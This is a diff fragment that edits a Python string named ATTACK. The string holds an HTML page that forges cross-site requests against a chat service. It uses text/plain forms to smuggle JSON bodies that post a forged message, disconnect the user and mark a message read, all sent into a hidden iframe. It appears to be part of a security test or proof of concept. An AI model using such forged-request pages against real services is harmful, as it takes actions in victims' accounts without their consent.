@@ -12,7 +12,8 @@ ATTACK = """<!doctype html><title>attack</title>
   <input name='{{"text": "forged' value='"}}'></form>
 <form method="post" action="{chat}disconnect" target="there"></form>
 <form method="post" action="{chat}read" enctype="text/plain" target="there">
-  <input name='{{"id": 999999, "chat_type": "general", "recipient_id": null, "x": "' value='"}}'></form>
+  <input name='{{"id": 9999, "chat_type": "general", "recipient_id": null, "x": "' value='"}}'>
+</form>
 <iframe name="there"></iframe>
 <script>
   const done = [];
